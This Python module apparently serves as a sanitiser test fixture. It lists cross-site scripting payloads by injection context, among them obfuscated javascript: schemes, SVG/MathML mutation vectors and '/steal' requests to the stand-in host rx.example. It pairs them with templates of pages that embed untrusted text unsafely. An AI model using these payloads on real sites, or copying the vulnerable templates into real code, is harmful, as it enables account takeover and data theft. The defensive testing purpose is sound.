"""Script payloads by the place they are made for, and the pages that would fall for each: proof that a payload lives.

Every element of a payload carries `data-rx`, every script sets `window.__xss`, every address is of `rx.example`: an
element that came to be, a script that ran and a request that left are each seen by themselves.
"""

from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

RUN = "window.__xss=1"
AWAY = "https://rx.example"

# Whole elements, which run or load something wherever text becomes markup.
ELEMENTS = (
    f"<script data-rx>{RUN}</script>",
    f"<ScRiPt data-rx >{RUN}</sCrIpT >",
    f"<script data-rx>{RUN}//",
    f'<script data-rx src="{AWAY}/a.js"></script>',
    f"<script/data-rx/src='{AWAY}/b.js'></script>",
    f'<script data-rx type="module">{RUN}</script>',
    f"<script\n data-rx\n>{RUN}</script\n>",
    f"<img data-rx src=x onerror={RUN}>",
    f"<img data-rx src=x onerror='{RUN}'>",
    f'<img data-rx src="x" onerror="{RUN}"/>',
    f"<img/data-rx/src=x/onerror={RUN}>",
    f"<IMG data-rx SRC=x oNeRrOr={RUN}>",
    f"<img data-rx src={AWAY}/c.png>",
    f"<img data-rx srcset={AWAY}/d.png>",
    f"<img data-rx loading=lazy src=x onerror={RUN}",
    f"<image data-rx src=x onerror={RUN}>",
    f"<svg data-rx onload={RUN}>",
    f"<svg/data-rx/onload={RUN}>",
    f"<svg data-rx><script data-rx>{RUN}</script></svg>",
    f"<svg data-rx><script data-rx href=data:,{RUN} /></svg>",
    f"<svg data-rx><animate data-rx onbegin={RUN} attributeName=x dur=1s>",
    f"<svg data-rx><set data-rx onbegin={RUN} attributeName=x>",
    f"<svg data-rx><a data-rx xlink:href=javascript:{RUN}><text x=20 y=20>x</text></a></svg>",
    f"<svg data-rx><use data-rx href={AWAY}/e.svg#x></svg>",
    f"<svg data-rx><foreignObject><img data-rx src=x onerror={RUN}></foreignObject></svg>",
    f"<svg data-rx><style data-rx>@import '{AWAY}/f.css';</style></svg>",
    f"<math data-rx><a data-rx href=javascript:{RUN}>x</a></math>",
    f'<math data-rx><mtext><table><mglyph><style><!--</style><img data-rx title="--&gt;&lt;img onerror={RUN}&gt;">',
    f"<iframe data-rx src=javascript:{RUN}></iframe>",
    f"<iframe data-rx srcdoc='&lt;script&gt;parent.{RUN[7:]}&lt;/script&gt;'></iframe>",
    f"<iframe data-rx src={AWAY}/g></iframe>",
    f"<object data-rx data=javascript:{RUN}></object>",
    f"<object data-rx data={AWAY}/h.swf></object>",
    f"<embed data-rx src={AWAY}/i.swf>",
    f"<base data-rx href={AWAY}/>",
    f'<meta data-rx http-equiv="refresh" content="0;url={AWAY}/j">',
    f"<link data-rx rel=stylesheet href={AWAY}/k.css>",
    f"<link data-rx rel=prefetch href={AWAY}/l>",
    f"<link data-rx rel=import href={AWAY}/m>",
    f"<style data-rx>@import url({AWAY}/n.css);</style>",
    f"<style data-rx>body{{background:url({AWAY}/o.png)}}</style>",
    f"<p data-rx style='background:url({AWAY}/p.png)'>x</p>",
    f"<body data-rx onload={RUN}>",
    f"<body data-rx background={AWAY}/q.png onpageshow={RUN}>",
    f"<video data-rx src=x onerror={RUN}></video>",
    f"<video data-rx><source data-rx onerror={RUN}></video>",
    f"<video data-rx poster={AWAY}/r.png></video>",
    f"<audio data-rx src=x onerror={RUN}>",
    f"<audio data-rx src={AWAY}/s.ogg autoplay>",
    f"<details data-rx open ontoggle={RUN}>x</details>",
    f"<input data-rx autofocus onfocus={RUN}>",
    f"<select data-rx autofocus onfocus={RUN}></select>",
    f"<textarea data-rx autofocus onfocus={RUN}></textarea>",
    f"<button data-rx autofocus onfocus={RUN}>x</button>",
    f"<button data-rx popovertarget=x onclick={RUN}>x</button>",
    f"<form data-rx action=javascript:{RUN}><button data-rx>x</button></form>",
    f"<form data-rx action={AWAY}/t><input data-rx name=csrfmiddlewaretoken></form>",
    f"<form data-rx><button data-rx formaction=javascript:{RUN}>x</button></form>",
    f"<isindex data-rx type=image src=x onerror={RUN}>",
    f"<marquee data-rx onstart={RUN}>x</marquee>",
    f"<a data-rx href=javascript:{RUN}>x</a>",
    f"<a data-rx href='java&#10;script:{RUN}'>x</a>",
    f"<a data-rx href='&#106;avascript:{RUN}'>x</a>",
    f"<a data-rx href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a data-rx href={AWAY}/u target=_blank>x</a>",
    f"<a data-rx ping={AWAY}/v href=/>x</a>",
    f"<area data-rx href=javascript:{RUN}>",
    f"<div data-rx onpointerenter={RUN}>x</div>",
    f"<div data-rx onmouseover={RUN}>x</div>",
    f"<div data-rx tabindex=0 onfocus={RUN} id=x>x</div>",
    f"<div data-rx contenteditable onbeforeinput={RUN}>x</div>",
    f"<div data-rx style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<div data-rx style=transition:all onwebkittransitionend={RUN}>x</div>",
    f"<xss data-rx onscrollend={RUN}>x</xss>",
    f"<rx-custom data-rx onclick={RUN}>x</rx-custom>",
    f"<div data-rx hx-get=/ hx-trigger=load hx-on::after-request={RUN}>x</div>",
    f"<div data-rx hx-on:click={RUN}>x</div>",
    f"<div data-rx data-hx-get={AWAY}/w data-hx-trigger=load>x</div>",
    f"<dialog data-rx open onclose={RUN}>x</dialog>",
    f"<template data-rx shadowrootmode=open><img data-rx src=x onerror={RUN}></template><p data-rx>x",
    f"<noscript data-rx><p title='</noscript><img data-rx src=x onerror={RUN}>'>",
    f"<plaintext data-rx><img data-rx src=x onerror={RUN}>",
    f"<table data-rx background={AWAY}/x.png><td data-rx background={AWAY}/y.png>x</table>",
    f"<keygen data-rx autofocus onfocus={RUN}>",
    f"<frameset data-rx onload={RUN}><p data-rx>x",
    f"<applet data-rx code={AWAY}/z>x</applet>",
    "<img data-rx name=getElementById><form data-rx id=test><input data-rx name=attributes></form>",
    "<a data-rx id=Plotly name=react>x</a><a data-rx id=htmx>x</a>",
    f"<!--><img data-rx src=x onerror={RUN}>-->",
    f"<![CDATA[><img data-rx src=x onerror={RUN}>]]>",
    f"<?xml ><img data-rx src=x onerror={RUN}>?>",
    f"</p></td></tr></table></main><img data-rx src=x onerror={RUN}>",
    f"<<img data-rx src=x onerror={RUN}>",
    f"\x0b<img data-rx src=x onerror={RUN}>",
    f"<img\x0cdata-rx\x0csrc=x\x0conerror={RUN}>",
    f"[x](x)<img data-rx src=x onerror={RUN}>",
    f"**b**<img data-rx src=x onerror={RUN}> ![x]({AWAY}/md.png)",
    f"{{{{7*7}}}}<img data-rx src=x onerror={RUN}>{{% debug %}}",
    f"${{7*7}}#{{7*7}}<%= 7*7 %><img data-rx src=x onerror={RUN}>",
)
SOME = (
    f"<img data-rx src=x onerror={RUN}>",
    f"<svg data-rx onload={RUN}>",
    f"<script data-rx>{RUN}</script>",
    f"<a data-rx href=javascript:{RUN}>x</a>",
    f"<iframe data-rx src=javascript:{RUN}></iframe>",
)
HANDLERS = (
    *("onfocus", "onmouseover", "onerror", "onload", "onclick", "onpointerrawupdate", "ontoggle", "onanimationend"),
    *("oncontentvisibilityautostatechange", "onbeforetoggle", "onwheel", "onauxclick"),
)
SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript\t:{RUN}",
    f"javascript://%0a{RUN}",
    f"javascript:/*</title></style>*/{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    f"{AWAY}/steal",
    "//rx.example/steal",
    "\\\\rx.example\\steal",
    "/\\rx.example/steal",
    "https:rx.example",
)
ENDS = {  # what ends the place a text stands in
    "textarea": "</textarea>",
    "title": "</title>",
    "comment": "-->",
    "comment, closed oddly": "--!>",
    "style": "</style>",
    "script": "</script>",
    "json": "</script>",
    "select": "</option></select>",
}


@dataclass(frozen=True)
class Payload:
    """A text, and the place where it does harm if it is written there as it stands."""

    place: str
    text: str


def _all() -> list[Payload]:
    found = [Payload("text", text) for text in ELEMENTS]
    found += [Payload("double quotes", f'x">{text}') for text in SOME]
    found += [Payload("single quotes", f"x'>{text}") for text in SOME]
    found += [Payload("no quotes", f"x>{text}") for text in SOME]
    found += [Payload("double quotes", f'x" data-rx {name}="{RUN}') for name in HANDLERS]
    found += [Payload("single quotes", f"x' data-rx {name}='{RUN}") for name in HANDLERS]
    found += [Payload("no quotes", f"x data-rx {name}={RUN}") for name in HANDLERS]
    found += [Payload("address", text) for text in SCHEMES]
    found += [Payload(place, f"{end}{text}") for place, end in ENDS.items() for text in SOME[:3]]
    found += [Payload("in a script", text) for text in (f'";{RUN};//', f'\\";{RUN};//', f'"-({RUN})-"', f'"+({RUN})+"')]
    found += [Payload("in a template string", text) for text in (f"${{{RUN}}}", f"`;{RUN};//")]
    found += [Payload("percent", quote(text)) for text in SOME]
    found += [Payload("entities", escape(text)) for text in SOME]
    found += [Payload("entities", text.replace("<", "&#x3c;")) for text in SOME[:2]]
    found += [Payload("JSON", text.replace("<", "\\u003c")) for text in SOME]
    found += [Payload("style attribute", f"x;background:url({AWAY}/s{n}.png)") for n in range(3)]
    return list(dict.fromkeys(found))


PAYLOADS = _all()

# How a page that trusts a text would write it, by place.
FALLS_FOR: dict[str, Callable[[str], str]] = {
    "text": lambda text: f"<p>{text}</p>",
    "double quotes": lambda text: f'<a title="{text}">x</a>',
    "single quotes": lambda text: f"<a title='{text}'>x</a>",
    "no quotes": lambda text: f"<a title={text}>x</a>",
    "address": lambda text: f'<a href="{escape(text)}">x</a>',
    "textarea": lambda text: f"<textarea>{text}</textarea>",
    "title": lambda text: f"<title>{text}</title>",
    "comment": lambda text: f"<!-- {text} -->",
    "comment, closed oddly": lambda text: f"<!-- {text} -->",
    "style": lambda text: f"<style>a{{content:'{text}'}}</style>",
    "script": lambda text: f"<script>/*{text}*/</script>",
    "json": lambda text: f'<script type="application/json">{text}</script>',
    "select": lambda text: f"<select><option>{text}</option></select>",
    "in a script": lambda text: f'<script>var a = "{text}";</script>',
    "in a template string": lambda text: f"<script>var a = `{text}`;</script>",
    "percent": lambda text: f"<p id=d></p><script>d.innerHTML = decodeURIComponent('{text}')</script>",
    "entities": lambda text: f"<p id=e>{text}</p><p id=d></p><script>d.innerHTML = e.textContent</script>",
    "JSON": lambda text: f"<p id=d></p><script>d.innerHTML = '{text}'</script>",
    "style attribute": lambda text: f'<p style="color:{text}">x</p>',
}
